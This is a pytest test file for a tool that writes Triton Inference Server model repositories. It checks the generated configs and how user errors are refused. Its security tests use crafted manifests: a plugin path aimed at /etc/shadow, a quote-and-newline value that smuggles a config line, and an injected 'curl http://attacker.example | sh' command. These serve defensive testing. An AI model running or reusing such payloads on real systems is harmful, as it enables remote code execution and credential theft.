"""`cornernet-deploy triton`: the repository it writes, checked against Triton's own config schema
(the ModelConfig protobuf of the tritonclient package) and against the engine manifest, plus its
user errors. The served behaviour is tested against a real tritonserver in test_triton_server.py;
a tensorrt_plan model cannot run here (no GPU, and the bundled server has no TensorRT backend)."""
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from cornernet_deploy.cli import main
from cornernet_deploy.contract.manifest import EngineManifest
from cornernet_deploy.contract.metadata import output_shapes, parse_metadata
from cornernet_deploy.commands.demo import DEMO_CHECKPOINT
from cornernet_deploy.errors import UserError
from cornernet_deploy.serving import repository
from support import fake_plugin_bytes

model_config_pb2 = pytest.importorskip(
    "tritonclient.grpc.model_config_pb2",
    reason="Triton's config schema comes from tritonclient: pip install -e '.[serve]'")
from google.protobuf import text_format  # noqa: E402  (installed with tritonclient[grpc])

DEMO_CLASSES = ["rectangle", "ellipse", "triangle"]   # what scripts/train_demo_model.py trained
PLUGIN = "libcornernet_deploy_plugins.so"


def parse_config(path) -> "model_config_pb2.ModelConfig":
    """config.pbtxt as Triton reads it; unknown fields or bad values raise ParseError."""
    return text_format.Parse(path.read_text(), model_config_pb2.ModelConfig())


def dims(tensor):
    return list(tensor.dims)


@pytest.fixture(scope="module")
def demo_onnx(tmp_path_factory):
    from cornernet_deploy.exporter import export_onnx
    path = tmp_path_factory.mktemp("onnx") / "demo.onnx"
    export_onnx(checkpoint=DEMO_CHECKPOINT, output=path, dynamic_size=True, dynamic_batch=True, progress=None)
    return path


def onnx_metadata(path):
    import onnx
    return json.loads(next(p.value for p in onnx.load(str(path)).metadata_props if p.key == "cornernet_deploy"))


FAKE_PLUGIN = fake_plugin_bytes(b"plugin library")


def fake_engine(tmp_path, metadata, min_batch=1, max_batch=4, hw=(255, 255), name="demo_fp16"):
    """An engine file next to a manifest in the format `cornernet-deploy build` writes. The engine
    bytes are never deserialized (the generator only copies them), so they need not be a real plan."""
    engine = tmp_path / f"{name}.engine"
    engine.write_bytes(b"serialized TensorRT plan stands here")
    plugin = tmp_path / PLUGIN
    plugin.write_bytes(FAKE_PLUGIN)
    manifest = {
        "format": 1, "toolkit_version": "0.1.0", "tensorrt_version": "10.3.0", "precision": "fp16",
        "gpu": {"name": "Orin", "compute_capability": "8.7"},
        "input": {"name": "image", "min": [min_batch, 3, *hw], "opt": [max_batch, 3, *hw], "max": [max_batch, 3, *hw]},
        "outputs": metadata["outputs"], "plugin_library": str(plugin),
        "plugin_sha256": hashlib.sha256(plugin.read_bytes()).hexdigest(),
        "metadata": {**metadata, "input_hw": list(hw), "batch": None if min_batch != max_batch else max_batch},
    }
    (tmp_path / f"{name}.manifest.json").write_text(json.dumps(manifest))
    return engine, manifest


# ------------------------------------------------------------------------------------------------
def test_onnx_repository_layout_and_python_config(demo_onnx, tmp_path):
    repo = tmp_path / "repo"
    assert main(["triton", str(demo_onnx), "--repo", str(repo), "--name", "shapes", "--max-batch", "6",
                 "--instances", "3", "--dynamic-batching-delay-us", "500", "--threads", "2"]) == 0
    assert sorted(p.name for p in repo.iterdir()) == sorted(
        ["shapes", "README.md", "Dockerfile", "requirements.txt", "cornernet-deploy.json"])
    model_dir = repo / "shapes"
    assert (model_dir / "1" / "model.onnx").read_bytes() == demo_onnx.read_bytes()
    assert (model_dir / "labels.txt").read_text().splitlines() == DEMO_CLASSES
    cfg = parse_config(model_dir / "config.pbtxt")
    assert cfg.name == "shapes" and cfg.backend == "python" and cfg.max_batch_size == 6
    inputs = {t.name: t for t in cfg.input}
    assert inputs["IMAGE_BYTES"].data_type == model_config_pb2.TYPE_STRING and dims(inputs["IMAGE_BYTES"]) == [1]
    assert inputs["IMAGE"].data_type == model_config_pb2.TYPE_UINT8 and dims(inputs["IMAGE"]) == [-1, -1, 3]
    assert inputs["IMAGE"].optional and inputs["IMAGE_BYTES"].optional and inputs["IMAGE"].allow_ragged_batch
    outputs = {t.name: (t.data_type, dims(t)) for t in cfg.output}
    assert outputs == {"NUM_DETECTIONS": (model_config_pb2.TYPE_INT32, [1]),
                       "BOXES": (model_config_pb2.TYPE_FP32, [-1, 4]),
                       "SCORES": (model_config_pb2.TYPE_FP32, [-1]),
                       "CLASSES": (model_config_pb2.TYPE_INT32, [-1])}
    assert cfg.dynamic_batching.max_queue_delay_microseconds == 500
    assert [(g.kind, g.count) for g in cfg.instance_group] == [(model_config_pb2.ModelInstanceGroup.KIND_CPU, 3)]
    params = {k: v.string_value for k, v in cfg.parameters.items()}
    assert params == {"network": "onnxruntime", "onnx_file": "model.onnx", "threads": "2", "score_threshold": "0",
                      "max_pixels": "50000000"}       # the documented default pixel limit
    reqs = (repo / "requirements.txt").read_text()
    assert "numpy>=1.23,<2" in reqs and "onnxruntime" in reqs
    assert (repo / "Dockerfile").read_text().startswith("FROM nvcr.io/nvidia/tritonserver:24.10-py3")


def test_no_dynamic_batching_flag(demo_onnx, tmp_path):
    assert main(["triton", str(demo_onnx), "--repo", str(tmp_path / "r"), "--no-dynamic-batching"]) == 0
    cfg = parse_config(tmp_path / "r" / "demo" / "config.pbtxt")
    assert not cfg.HasField("dynamic_batching") and cfg.max_batch_size == repository.DEFAULT_MAX_BATCH


def test_the_copied_runtime_is_what_the_served_model_imports(demo_onnx, tmp_path):
    """model.py puts its own directory first on sys.path: the copy wins over this installation,
    and it imports without torch."""
    repository.write_repository(demo_onnx, tmp_path / "r", name="m")
    version_dir = tmp_path / "r" / "m" / "1"
    script = ("import sys; sys.path.insert(0, sys.argv[1]);"
              "import cornernet_deploy.runtime.backends as d, cornernet_deploy.runtime.preprocess as p;"
              "d.open_backend(sys.argv[2]); print(d.__file__); print(hasattr(p, 'decode_image'));"
              "print('torch' in sys.modules)")
    res = subprocess.run([sys.executable, "-c", script, str(version_dir), str(version_dir / "model.onnx")],
                         capture_output=True, text=True, timeout=120, env=dict(os.environ, OMP_NUM_THREADS="1"))
    assert res.returncode == 0, res.stderr[-2000:]
    where, has_decode, torch_loaded = res.stdout.split()
    assert where.startswith(str(version_dir)) and has_decode == "True" and torch_loaded == "False"


def test_engine_repository_matches_manifest_and_schema(demo_onnx, tmp_path):
    metadata = onnx_metadata(demo_onnx)
    engine, manifest = fake_engine(tmp_path, metadata, min_batch=1, max_batch=4, hw=(255, 255))
    repo = tmp_path / "repo"
    assert main(["triton", str(engine), "--repo", str(repo), "--name", "shapes", "--instances", "2",
                 "--python-instances", "5"]) == 0
    assert sorted(p.name for p in repo.iterdir()) == sorted(
        ["shapes", "shapes_net", PLUGIN, "README.md", "Dockerfile", "requirements.txt", "cornernet-deploy.json"])
    assert (repo / PLUGIN).read_bytes() == FAKE_PLUGIN
    assert (repo / "shapes_net" / "1" / "model.plan").read_bytes() == engine.read_bytes()
    assert "onnxruntime" not in (repo / "requirements.txt").read_text()

    net = parse_config(repo / "shapes_net" / "config.pbtxt")
    assert net.platform == "tensorrt_plan" and net.max_batch_size == 4     # the profile's maximum
    assert [(t.name, t.data_type, dims(t)) for t in net.input] == [("image", model_config_pb2.TYPE_FP32, [3, 255, 255])]
    # demo CornerNet-Squeeze: 3 classes, stride 8 -> (255 + 1) / 8 = 32 cells a side
    fp32 = model_config_pb2.TYPE_FP32
    assert [(t.name, t.data_type, dims(t)) for t in net.output] == [
        ("tl_heat", fp32, [3, 32, 32]), ("br_heat", fp32, [3, 32, 32]), ("tl_tag", fp32, [1, 32, 32]),
        ("br_tag", fp32, [1, 32, 32]), ("tl_off", fp32, [2, 32, 32]), ("br_off", fp32, [2, 32, 32])]
    assert net.HasField("dynamic_batching")
    assert [(g.kind, g.count) for g in net.instance_group] == [(model_config_pb2.ModelInstanceGroup.KIND_GPU, 2)]

    front = parse_config(repo / "shapes" / "config.pbtxt")
    assert front.backend == "python" and front.max_batch_size == 4
    assert [g.count for g in front.instance_group] == [5]
    params = {k: v.string_value for k, v in front.parameters.items()}
    assert params["network"] == "triton" and params["network_model"] == "shapes_net"
    assert json.loads((repo / "shapes" / "1" / params["network_manifest"]).read_text()) == manifest
    readme = (repo / "README.md").read_text()
    assert f"--backend-config=tensorrt,plugins=/models/{PLUGIN}" in readme and "TensorRT 10.3.0" in readme


def test_engine_with_in_graph_decode_and_a_fixed_batch(demo_onnx, tmp_path):
    metadata = dict(onnx_metadata(demo_onnx), decode="graph",
                    outputs=["tl_scores", "tl_inds", "tl_tags", "tl_offs", "br_scores", "br_inds", "br_tags", "br_offs"])
    engine, _ = fake_engine(tmp_path, metadata, min_batch=2, max_batch=2, hw=(127, 191))
    text = repository.tensorrt_model_config("n", EngineManifest.load(engine), 1, 100)
    net = text_format.Parse(text, model_config_pb2.ModelConfig())
    # a fixed batch of 2: no batching dimension for Triton, the batch is part of every shape
    assert net.max_batch_size == 0 and not net.HasField("dynamic_batching")
    assert dims(net.input[0]) == [2, 3, 127, 191]
    k = 20   # the demo model's test top_k
    got = {t.name: (t.data_type, dims(t)) for t in net.output}
    assert got["tl_scores"] == (model_config_pb2.TYPE_FP32, [2, k])
    assert got["br_inds"] == (model_config_pb2.TYPE_INT64, [2, k])       # flat int64 indices (CONTRACTS)
    assert got["tl_offs"] == (model_config_pb2.TYPE_FP32, [2, k, 2])


def test_saccade_attention_outputs():
    meta = {"arch": "cornernet-saccade", "decode": "none", "input_name": "image",
            "outputs": ["tl_heat", "br_heat", "tl_tag", "br_tag", "tl_off", "br_off", "att0", "att1", "att2"]}
    dims_by_name = {n: d for n, _, d in output_shapes(parse_metadata(meta), (255, 255))}
    # official CornerNet-Saccade at 255x255: 64x64 heads, attention maps 16, 32, 64 (innermost first)
    assert dims_by_name["tl_heat"] == [80, 64, 64]
    assert [dims_by_name[f"att{j}"] for j in range(3)] == [[1, 16, 16], [1, 32, 32], [1, 64, 64]]


# ------------------------------------------------------------------------------------------------
# user errors: one line, exit 2, nothing written

def run_cli(args, capsys):
    """(exit code, the error line); argparse's usage errors print the usage line before it."""
    try:
        code = main(["triton"] + [str(a) for a in args])
    except SystemExit as exc:
        code = exc.code
    err = capsys.readouterr().err.strip()
    return code, err.splitlines()[-1] if code == 2 and err.startswith("usage:") else err


def test_user_errors_are_one_line_and_write_nothing(demo_onnx, tmp_path, capsys):
    repo = tmp_path / "repo"
    cases = [
        ([tmp_path / "missing.onnx", "--repo", repo], "no such model file"),
        ([demo_onnx, "--repo", repo, "--name", "bad name!"], "--name"),
        ([demo_onnx, "--repo", repo, "--instances", "0"], "argument --instances: must be at least 1"),
        ([demo_onnx, "--repo", repo, "--max-batch", "two"], "argument --max-batch: expected a whole number"),
        ([demo_onnx, "--repo", repo, "--dynamic-batching-delay-us", "-5"], "must be 0 or more"),
        ([demo_onnx, "--repo", repo, "--score-threshold", "1.5"], "scores lie in [0, 1]"),
        ([demo_onnx, "--repo", tmp_path / "notes.txt"], "is a file; give a folder"),
        ([demo_onnx, "--repo", repo, "--plugin", "x.so"], "--plugin is for engines"),
    ]
    text = tmp_path / "notes.txt"
    text.write_text("hello")
    cases.append(([text, "--repo", repo], "expected an .onnx"))
    fake = tmp_path / "fake.onnx"
    fake.write_bytes(b"not a protobuf at all")
    cases.append(([fake, "--repo", repo], "is not an ONNX model"))
    orphan = tmp_path / "orphan.engine"
    orphan.write_bytes(b"x")
    cases.append(([orphan, "--repo", repo], "has no manifest"))
    for args, message in cases:
        code, err = run_cli(args, capsys)
        assert code == 2 and message in err and len(err.splitlines()) == 1, (args, err)
        assert not repo.exists(), args
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".repo")]
    with pytest.raises(UserError, match="--instances must be >= 1"):     # the library checks too
        repository.write_repository(demo_onnx, repo, instances=0)


def test_plugin_that_is_not_the_engines_is_refused(demo_onnx, tmp_path, capsys):
    engine, _ = fake_engine(tmp_path, onnx_metadata(demo_onnx))
    other = tmp_path / "other.so"
    other.write_bytes(fake_plugin_bytes(b"another build"))
    code, err = run_cli([engine, "--repo", tmp_path / "r", "--plugin", other], capsys)
    assert code == 2 and "not the plugin library the engine was built with" in err
    assert not (tmp_path / "r").exists()


@pytest.mark.parametrize("needed, why", [
    ((), "registers its creator only when TensorRT's loadLibrary asks it"),
    (("libnvinfer_lean.so.10",), "registers its creator with libnvinfer_lean.so.10, not the full TensorRT"),
])
def test_a_plugin_build_that_triton_cannot_register_is_refused(demo_onnx, tmp_path, capsys, needed, why):
    """Triton's TensorRT backend dlopens `plugins=` libraries (tensorrt_backend src/tensorrt.cc,
    OpenLibraryHandle: dlopen(RTLD_NOW | RTLD_LOCAL)) and never calls getCreators: only a build that
    registers itself with libnvinfer on load gives the server the creator the engine needs."""
    engine, manifest = fake_engine(tmp_path, onnx_metadata(demo_onnx))
    Path(manifest["plugin_library"]).write_bytes(fake_plugin_bytes(b"plugin library", needed))
    manifest["plugin_sha256"] = None
    Path(str(engine).replace(".engine", ".manifest.json")).write_text(json.dumps(manifest))
    code, err = run_cli([engine, "--repo", tmp_path / "r"], capsys)
    assert code == 2 and why in err and "plugin build --static-registration" in err
    assert len(err.strip().splitlines()) == 1
    assert not (tmp_path / "r").exists()


def test_plugin_option_is_refused_for_files_served_without_tensorrt(demo_onnx, tmp_path, capsys):
    code, err = run_cli([demo_onnx, "--repo", tmp_path / "r", "--plugin", tmp_path / "x.so"], capsys)
    assert code == 2 and "--plugin is for engines" in err and "runs inside the Python model" in err


def test_existing_directories_are_kept_unless_ours_and_overwrite(demo_onnx, tmp_path, capsys):
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    (foreign / "keep.txt").write_text("mine")
    code, err = run_cli([demo_onnx, "--repo", foreign], capsys)
    assert code == 2 and "--overwrite" in err
    code, err = run_cli([demo_onnx, "--repo", foreign, "--overwrite"], capsys)
    assert code == 2 and "not written by cornernet-deploy" in err
    assert (foreign / "keep.txt").read_text() == "mine"

    ours = tmp_path / "ours"
    assert run_cli([demo_onnx, "--repo", ours, "--name", "a"], capsys)[0] == 0
    assert run_cli([demo_onnx, "--repo", ours, "--name", "b", "--overwrite"], capsys)[0] == 0
    assert sorted(p.name for p in ours.iterdir() if p.is_dir()) == ["b"]    # replaced whole


def test_a_failure_while_writing_leaves_nothing(demo_onnx, tmp_path, monkeypatch):
    def broken(dest):
        raise OSError("disk full")
    monkeypatch.setattr(repository, "_copy_runtime", broken)
    with pytest.raises(OSError):
        repository.write_repository(demo_onnx, tmp_path / "repo")
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(UserError):     # and an engine needing batches of >= 2 is refused up front
        engine, _ = fake_engine(tmp_path, onnx_metadata(demo_onnx), min_batch=2, max_batch=4)
        repository.write_repository(engine, tmp_path / "repo2")
    assert not (tmp_path / "repo2").exists()


def test_max_pixels_reaches_the_served_models_config(demo_onnx, tmp_path, capsys):
    assert run_cli([demo_onnx, "--repo", tmp_path / "r", "--max-pixels", "0"], capsys)[0] == 0
    params = {k: v.string_value for k, v in parse_config(tmp_path / "r" / "demo" / "config.pbtxt").parameters.items()}
    assert params["max_pixels"] == "0"
    assert "no pixel limit" in (tmp_path / "r" / "README.md").read_text()
    code, err = run_cli([demo_onnx, "--repo", tmp_path / "s", "--max-pixels", "-1"], capsys)
    assert code == 2 and "must be 0 or more" in err and not (tmp_path / "s").exists()


# ------------------------------------------------------------------------------------------------
# what a model file or its manifest says is never trusted as it is (issue #21 items 4, 11, 13)

def assert_refused(capsys, tmp_path, args, *words):
    """One line, exit 2, nothing written (no repository, no staging folder beside it)."""
    code, err = run_cli(args, capsys)
    assert code == 2 and len(err.splitlines()) == 1 and all(w in err for w in words), (args, err)
    assert not (tmp_path / "repo").exists(), args
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".repo")], args


def crafted_manifest(tmp_path, demo_onnx, change):
    engine, manifest = fake_engine(tmp_path, onnx_metadata(demo_onnx))
    manifest = change(json.loads(json.dumps(manifest)))
    (tmp_path / "demo_fp16.manifest.json").write_text(json.dumps(manifest))
    return engine


def test_the_manifests_plugin_library_is_never_copied_unless_it_is_ours(demo_onnx, tmp_path, capsys):
    secret = next(p for p in (Path("/etc/shadow"), Path("/etc/passwd")) if p.is_file() and os.access(p, os.R_OK))
    text = tmp_path / "notes.so"
    text.write_text("just text")
    tagless = tmp_path / "other.so"          # an ELF shared object, but not our library
    tagless.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(9) + (3).to_bytes(2, "little") + b"\0libfoo\0")
    sha = lambda p: hashlib.sha256(p.read_bytes()).hexdigest()   # noqa: E731
    cases = [
        # even with its own SHA-256 recorded, a system file is not a plugin library
        (dict(plugin_library=str(secret), plugin_sha256=sha(secret)), [str(secret), "not a shared library"]),
        (dict(plugin_library=str(text), plugin_sha256=None), ["notes.so", "not a shared library"]),
        (dict(plugin_library=str(tagless), plugin_sha256=sha(tagless)), ["other.so", "not a cornernet-deploy plugin library"]),
        (dict(plugin_sha256="0" * 64), [PLUGIN, "SHA-256 differs"]),
    ]
    for change, words in cases:
        engine = crafted_manifest(tmp_path, demo_onnx, lambda m: {**m, **change})
        assert_refused(capsys, tmp_path, [engine, "--repo", tmp_path / "repo"], *words)


@pytest.mark.parametrize("change, words", [
    # a quote and a newline would add `backend: "python"` to the engine's config.pbtxt
    (lambda m: {**m, "input": {**m["input"], "name": 'image" }\nbackend: "python'}}, ["input name", "not a valid tensor name"]),
    (lambda m: {**m, "input": {**m["input"], "max": [-1, 3, 255, 255]}}, ["input max shape [-1, 3, 255, 255]"]),
    (lambda m: {**m, "input": {**m["input"], "max": ["4", 3, 255, 255]}}, ["input max shape ['4', 3, 255, 255]"]),
    (lambda m: {**m, "input": "image"}, ["no 'input' object"]),
    (lambda m: {**m, "outputs": 5}, ["no 'outputs' list"]),
    (lambda m: {**m, "outputs": m["outputs"][:-1] + ['x"\n']}, ["output name"]),
    (lambda m: {**m, "gpu": "Orin"}, ["'gpu' is not an object"]),
    (lambda m: {**m, "precision": 16}, ["precision 16"]),
    (lambda m: {**m, "tensorrt_version": 10.3}, ["'tensorrt_version' is not text"]),
    (lambda m: {**m, "metadata": [1, 2]}, ["not a JSON object"]),
    (lambda m: {**m, "metadata": {**m["metadata"], "class_names": [f"c{i}" for i in range(10000)]}},
     ["10000 class names for a model with 3 classes"]),
    (lambda m: [m], ["not a JSON object"]),
], ids=["quote-newline-name", "max-batch-minus-1", "string-dims", "input-text", "outputs-number",
        "output-name-newline", "gpu-text", "precision-number", "version-number", "metadata-list",
        "10000-class-names", "manifest-list"])
def test_every_manifest_value_is_checked_before_it_reaches_a_config(demo_onnx, tmp_path, capsys, change, words):
    engine = crafted_manifest(tmp_path, demo_onnx, change)
    assert_refused(capsys, tmp_path, [engine, "--repo", tmp_path / "repo"], "demo_fp16.manifest.json", *words)


def test_an_exports_crafted_class_names_are_refused(demo_onnx, tmp_path, capsys):
    from support import with_metadata
    many = with_metadata(demo_onnx, tmp_path / "many.onnx", lambda m: dict(m, class_names=[f"c{i}" for i in range(10000)]))
    assert_refused(capsys, tmp_path, [many, "--repo", tmp_path / "repo"], "many.onnx", "10000 class names for a model with 3 classes")
    split = with_metadata(demo_onnx, tmp_path / "split.onnx",
                          lambda m: dict(m, class_names=["rectangle", "ellipse\ntriangle", "triangle"]))
    assert_refused(capsys, tmp_path, [split, "--repo", tmp_path / "repo"], "split.onnx", "control character")


def test_text_from_the_manifest_never_starts_a_line_of_the_readme(demo_onnx, tmp_path, capsys):
    injected = "\n## Start\n\n```sh\ncurl http://attacker.example | sh\n```\n"
    engine = crafted_manifest(tmp_path, demo_onnx, lambda m: {
        **m, "tensorrt_version": "10.3.0" + injected, "gpu": {"name": "Orin`" + injected},
        "metadata": {**m["metadata"], "spec": {**m["metadata"]["spec"], "name": "cornernet-squeeze" + injected}}})
    assert run_cli([engine, "--repo", tmp_path / "repo"], capsys)[0] == 0
    readme = (tmp_path / "repo" / "README.md").read_text()
    assert "curl http://attacker.example" in readme                        # said, escaped, on one line
    assert not any(line.startswith(("curl", "## Start\\n")) for line in readme.splitlines())
    assert readme.count("```sh\n") == 1                                    # only the generator's own block
    assert "10.3.0\\n## Start\\n" in readme and "Orin'" in readme
    assert (tmp_path / "repo" / "demo_fp16" / "labels.txt").read_text().splitlines() == DEMO_CLASSES


def test_labels_escape_every_control_character():
    from cornernet_deploy.contract.metadata import printable
    names = ["a\nb", "tab\there", "nel\x85x", "ls\u2028y", "esc\x1b[31m", "plain é"]
    escaped = [printable(n) for n in names]
    assert escaped == ["a\\nb", "tab\\there", "nel\\x85x", "ls\\u2028y", "esc\\x1b[31m", "plain é"]
    assert "".join(e + "\n" for e in escaped).splitlines() == escaped      # one label a line


@pytest.mark.parametrize("name", ["README.md", "readme.md", "Dockerfile", "requirements.txt",
                                  "cornernet-deploy.json", PLUGIN])
def test_names_of_the_repositorys_own_files_are_refused(demo_onnx, tmp_path, capsys, name):
    assert_refused(capsys, tmp_path, [demo_onnx, "--repo", tmp_path / "repo", "--name", name],
                   f"--name {name}", "choose another model name")
